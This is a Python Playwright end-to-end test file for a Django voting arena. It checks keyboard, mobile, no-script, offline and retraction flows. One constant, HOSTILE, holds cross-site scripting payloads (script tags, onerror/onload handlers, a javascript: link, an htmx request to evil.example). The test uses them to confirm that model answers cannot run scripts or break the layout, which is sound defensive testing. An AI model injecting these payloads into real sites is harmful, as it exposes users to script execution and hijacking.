"""A vote in Chromium: by keys alone, by thumb on a phone, and without scripts."""

import re

import pytest
from django.urls import reverse
from playwright.sync_api import Page, expect

from arena.models import Arena, Output
from judges.models import Outcome, Retraction, Verdict
from judges.voters import find_crowd
from tests.e2e.conftest import World

HOSTILE = (
    "<script>alert(1)</script> <img src=x onerror=alert(1)> <svg onload=alert(1)>"
    ' [x](javascript:alert(1)) ![y](https://evil.example/y.png) <div hx-get="https://evil.example/"'
    ' hx-trigger="load">z</div>\n\n|' + " a |" * 60 + "\n|" + "---|" * 60 + "\n\n" + "w" * 9_000
)


@pytest.fixture
def arena(world: World) -> Arena:
    return world.arena


def cast_here(arena: Arena):
    return Verdict.objects.filter(judge=find_crowd(arena), criterion="")


def open_vote(page: Page, arena: Arena) -> None:
    page.goto(reverse("judges:vote", args=[arena.slug]), wait_until="networkidle")


def key_on(page: Page) -> str:
    return page.locator('#stage input[name="ballot"]').first.input_value()


def test_a_vote_its_reveal_and_the_next_by_keys_alone(page: Page, arena: Arena):
    open_vote(page, arena)
    first = key_on(page)
    page.keyboard.press("a")
    expect(page.get_by_role("heading", name="You said: A is better")).to_be_focused()
    assert cast_here(arena).count() == 1
    page.keyboard.press("n")
    expect(page.get_by_role("button", name="Both bad")).to_be_visible()
    assert key_on(page) != first
    expect(page.get_by_text("1 vote of yours today")).to_be_visible()
    page.keyboard.press("t")
    expect(page.get_by_role("heading", name="You said: Tie")).to_be_focused()
    page.keyboard.press("u")
    expect(page.get_by_text("Your vote was taken back")).to_be_visible()
    assert Retraction.objects.count() == 1
    page.keyboard.press("x")
    expect(page.get_by_role("heading", name="You said: Both bad")).to_be_focused()
    assert cast_here(arena).filter(retraction=None).count() == 2


def test_the_next_battle_lies_ready_while_one_reads(page: Page, arena: Arena, complaints):
    open_vote(page, arena)
    ready = page.locator('#upcoming input[name="ballot"]').input_value()
    page.keyboard.press("a")
    expect(page.get_by_role("heading", name="You said: A is better")).to_be_focused()
    page.wait_for_load_state("networkidle")
    page.context.set_offline(True)
    page.keyboard.press("n")
    expect(page.get_by_role("button", name="Both bad")).to_be_visible()
    assert key_on(page) == ready
    page.context.set_offline(False)
    complaints.clear()


def test_a_vote_that_did_not_reach_the_server_can_be_sent_again(
    page: Page, arena: Arena, complaints
):
    open_vote(page, arena)
    page.context.set_offline(True)
    page.keyboard.press("a")
    expect(page.get_by_role("alert")).to_contain_text("Nothing is lost")
    page.context.set_offline(False)
    page.keyboard.press("a")
    expect(page.get_by_role("heading", name="You said: A is better")).to_be_visible()
    assert cast_here(arena).count() == 1
    complaints.clear()


def test_a_double_click_is_one_vote(page: Page, arena: Arena):
    open_vote(page, arena)
    page.get_by_role("button", name="Tie").dblclick()
    expect(page.get_by_role("heading", name="You said: Tie")).to_be_visible()
    assert cast_here(arena).get().outcome == Outcome.TIE


def test_a_vote_by_thumb_on_a_phone(open_page, arena: Arena, axe):
    page = open_page(width=375, height=740, has_touch=True, is_mobile=True)
    open_vote(page, arena)
    axe(page)
    answers = page.locator("#stage [data-output]")
    expect(answers.nth(0)).to_be_visible()
    expect(answers.nth(1)).to_be_hidden()
    page.locator("#stage .tab-label.b").tap()
    expect(answers.nth(1)).to_be_visible()
    expect(answers.nth(0)).to_be_hidden()
    button = page.get_by_role("button", name="B is better")
    expect(button).to_be_in_viewport()
    button.tap()
    expect(page.get_by_role("heading", name="You said: B is better")).to_be_visible()
    axe(page)


def test_a_vote_undone_and_another_cast_without_scripts(open_page, arena: Arena):
    page = open_page(java_script_enabled=False)
    page.goto(reverse("judges:vote", args=[arena.slug]))
    page.get_by_role("button", name="A is better").click()
    expect(page.get_by_role("heading", name="You said: A is better")).to_be_visible()
    page.get_by_role("button", name=re.compile("^Undo")).click()
    expect(page.get_by_text("Your vote was taken back")).to_be_visible()
    page.get_by_role("button", name="Tie").click()
    expect(page.get_by_role("heading", name="You said: Tie")).to_be_visible()
    page.get_by_role("link", name=re.compile("^Next battle")).click()
    expect(page.get_by_role("button", name="Both bad")).to_be_visible()
    assert cast_here(arena).get(retraction=None).outcome == Outcome.TIE


@pytest.mark.parametrize("width", [375, 1280])
def test_hostile_answers_neither_run_nor_widen_the_page(open_page, arena: Arena, width):
    Output.objects.update(text=HOSTILE)
    page = open_page(width=width)
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    open_vote(page, arena)
    scroll, client = page.evaluate(
        "() => [document.documentElement.scrollWidth, document.documentElement.clientWidth]"
    )
    assert scroll <= client
    assert not dialogs
    page.keyboard.press("a")
    expect(page.get_by_role("heading", name="You said: A is better")).to_be_visible()


@pytest.mark.parametrize("look", [{}, {"width": 375, "height": 740}])
def test_my_votes_are_accessible_and_can_be_taken_back(open_page, arena: Arena, axe, look):
    page = open_page(**look)
    open_vote(page, arena)
    page.keyboard.press("b")
    expect(page.get_by_role("heading", name="You said: B is better")).to_be_visible()
    page.goto(reverse("judges:my-votes", args=[arena.slug]), wait_until="networkidle")
    axe(page)
    page.locator("main tbody summary").first.click()
    page.get_by_role("button", name="Yes, take it back").click()
    expect(page.get_by_text("isn’t counted any more")).to_be_visible()
    assert Retraction.objects.count() == 1
